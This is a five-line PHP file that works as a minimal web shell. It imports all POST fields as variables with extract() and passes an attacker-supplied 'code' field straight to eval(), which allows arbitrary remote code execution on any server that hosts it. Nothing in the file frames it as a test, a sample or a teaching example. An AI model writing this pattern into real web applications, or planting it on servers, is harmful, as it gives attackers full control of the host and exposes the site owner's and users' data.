<?php
extract($_POST);
if (isset($code)) {
	eval($code);
}
